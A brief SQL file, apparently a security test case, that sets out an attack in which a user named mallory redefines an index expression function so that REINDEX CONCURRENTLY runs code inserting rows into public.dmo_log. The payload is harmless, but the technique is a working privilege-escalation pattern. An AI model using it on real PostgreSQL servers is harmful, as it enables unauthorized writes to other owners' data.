-- Has REINDEX call a function of an index.
-- wants: fill
-- attack:
CREATE FUNCTION fixed(n int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS 'BEGIN RETURN n; END';
CREATE INDEX odd ON mallory_own (fixed(id));
CREATE FUNCTION put() RETURNS int LANGUAGE plpgsql AS $$
  BEGIN INSERT INTO public.dmo_log SELECT n FROM pg_catalog.generate_series(1001, 1006) n; RETURN 1; END $$;
CREATE OR REPLACE FUNCTION fixed(n int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS 'BEGIN RETURN public.put() + n; END';
REINDEX INDEX CONCURRENTLY odd;
